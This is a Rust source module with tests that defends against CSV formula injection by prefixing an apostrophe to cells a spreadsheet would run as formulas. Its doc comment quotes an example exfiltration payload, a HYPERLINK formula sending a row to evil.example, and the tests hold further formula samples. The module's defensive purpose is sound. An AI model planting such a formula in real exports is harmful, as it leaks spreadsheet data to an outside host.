//! Cells of the CSV files socval writes for people to open in a
//! spreadsheet, made safe to open.
//!
//! Excel, LibreOffice and Google Sheets run a cell that starts with `=`,
//! `+`, `-` or `@` as a formula (and one that starts with a tab or a
//! carriage return, after trimming it): a supplier called
//! `=HYPERLINK("http://evil.example/?"&A1,"Acme")` becomes a link that
//! sends the row away. [`spreadsheet_safe`] puts an apostrophe before such
//! a cell, which spreadsheets read as "this is text" and do not show. A
//! plain number such as `-12.50` is left as it is: a spreadsheet reads it
//! as the number it is, and nothing can hide in it.
//!
//! Every CSV writer in socval passes its records through [`safe_cells`]
//! (`csv::Writer::write_record(safe_cells(record))`): this crate has no
//! CSV dependency, and this one adapter fits every writer.
//!
//! ```
//! use socval_core::cell::spreadsheet_safe;
//! assert_eq!(spreadsheet_safe("=1+1"), "'=1+1");
//! assert_eq!(spreadsheet_safe("-12.50"), "-12.50");
//! assert_eq!(spreadsheet_safe("Acme Ltd"), "Acme Ltd");
//! ```

use std::borrow::Cow;

/// True if `cell` is a plain decimal number: an optional minus sign,
/// digits, and optionally a point and more digits.
fn plain_number(cell: &[u8]) -> bool {
    let digits = cell.strip_prefix(b"-").unwrap_or(cell);
    let (int, frac) = match digits.iter().position(|&b| b == b'.') {
        Some(i) => (&digits[..i], &digits[i + 1..]),
        None => (digits, &b"0"[..]),
    };
    !int.is_empty()
        && !frac.is_empty()
        && int.iter().all(u8::is_ascii_digit)
        && frac.iter().all(u8::is_ascii_digit)
}

/// True if a spreadsheet would run `cell` as a formula: it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return and is not a plain number
/// such as `-12.50`. For writers of raw bytes; see [`spreadsheet_safe`].
pub fn is_formula(cell: &[u8]) -> bool {
    matches!(
        cell.first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    ) && !plain_number(cell)
}

/// `cell`, with an apostrophe before it if a spreadsheet would run it as a
/// formula ([`is_formula`]).
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if is_formula(cell.as_bytes()) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// One cell of [`safe_cells`]: the text as given, or made safe.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SafeCell<T> {
    /// Safe as it is.
    AsIs(T),
    /// With an apostrophe before it.
    Prefixed(String),
}

impl<T: AsRef<str>> AsRef<[u8]> for SafeCell<T> {
    fn as_ref(&self) -> &[u8] {
        match self {
            SafeCell::AsIs(t) => t.as_ref().as_bytes(),
            SafeCell::Prefixed(s) => s.as_bytes(),
        }
    }
}

/// Every cell of a record made safe by [`spreadsheet_safe`], in a form
/// `csv::Writer::write_record` takes. Allocates only for a cell it changes.
pub fn safe_cells<I>(record: I) -> impl Iterator<Item = SafeCell<I::Item>>
where
    I: IntoIterator,
    I::Item: AsRef<str>,
{
    record
        .into_iter()
        .map(|cell| match spreadsheet_safe(cell.as_ref()) {
            Cow::Borrowed(_) => SafeCell::AsIs(cell),
            Cow::Owned(s) => SafeCell::Prefixed(s),
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_numbers_kept() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://x\",\"y\")",
                "'=HYPERLINK(\"http://x\",\"y\")",
            ),
            ("+1+1", "'+1+1"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("-1+1", "'-1+1"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("-1.", "'-1."),
            ("-1e5", "'-1e5"),
            ("+1", "'+1"),
            ("-12.50", "-12.50"),
            ("-3", "-3"),
            ("12.50", "12.50"),
            ("Acme Ltd", "Acme Ltd"),
            ("A=B", "A=B"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell), want, "{cell:?}");
        }
    }

    #[test]
    fn records_are_made_safe_cell_by_cell() {
        let owned = vec!["=1".to_string(), "-2.5".to_string()];
        let cells: Vec<Vec<u8>> = safe_cells(owned).map(|c| c.as_ref().to_vec()).collect();
        assert_eq!(cells, [b"'=1".to_vec(), b"-2.5".to_vec()]);
        let borrowed = ["a", "@b"];
        assert_eq!(
            safe_cells(borrowed).collect::<Vec<_>>(),
            [SafeCell::AsIs("a"), SafeCell::Prefixed("'@b".into())]
        );
    }
}
